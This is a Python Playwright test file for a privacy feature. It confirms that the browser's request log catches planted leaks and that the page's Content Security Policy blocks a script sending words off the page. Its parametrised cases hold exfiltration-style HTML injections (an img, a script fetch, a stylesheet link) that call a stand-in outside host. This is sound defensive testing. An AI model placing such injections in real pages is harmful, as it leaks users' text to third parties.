"""Level 4 of what keeps words in the house: the browser's own log of requests catches a leak that is planted."""

from collections.abc import Callable

import pytest
from playwright.sync_api import BrowserContext

from coach.ui.house import Home
from tests.browser.conftest import open_at, watch
from tests.browser.test_page import eventually
from tests.privacy.hostile import OUTSIDE
from tests.ui.house import FakeHouse

pytestmark = pytest.mark.browser


@pytest.mark.parametrize(
    "html",
    [
        f"<img src='http://{OUTSIDE}/words.png'>",
        f"<script>fetch('http://{OUTSIDE}/words')</script>",
        f"<link rel=stylesheet href='http://{OUTSIDE}/words.css'>",
    ],
)
def test_a_request_off_the_page_is_seen(context: BrowserContext, html: str) -> None:
    faults = watch(context)
    page = context.new_page()
    page.set_content(html, wait_until="commit")
    assert eventually(lambda: any(OUTSIDE in fault for fault in faults), 3)


def test_the_pages_own_rules_stop_a_script_that_would_send_words_away(
    context: BrowserContext, serve_house: Callable[[Home], str]
) -> None:
    faults = watch(context)
    page = open_at(context, serve_house(FakeHouse()))
    assert faults == []
    stopped = page.evaluate(f"fetch('http://{OUTSIDE}/words').then(() => 'sent', () => 'stopped')")
    assert stopped == "stopped"
    assert eventually(lambda: any("Content Security Policy" in fault for fault in faults), 3)
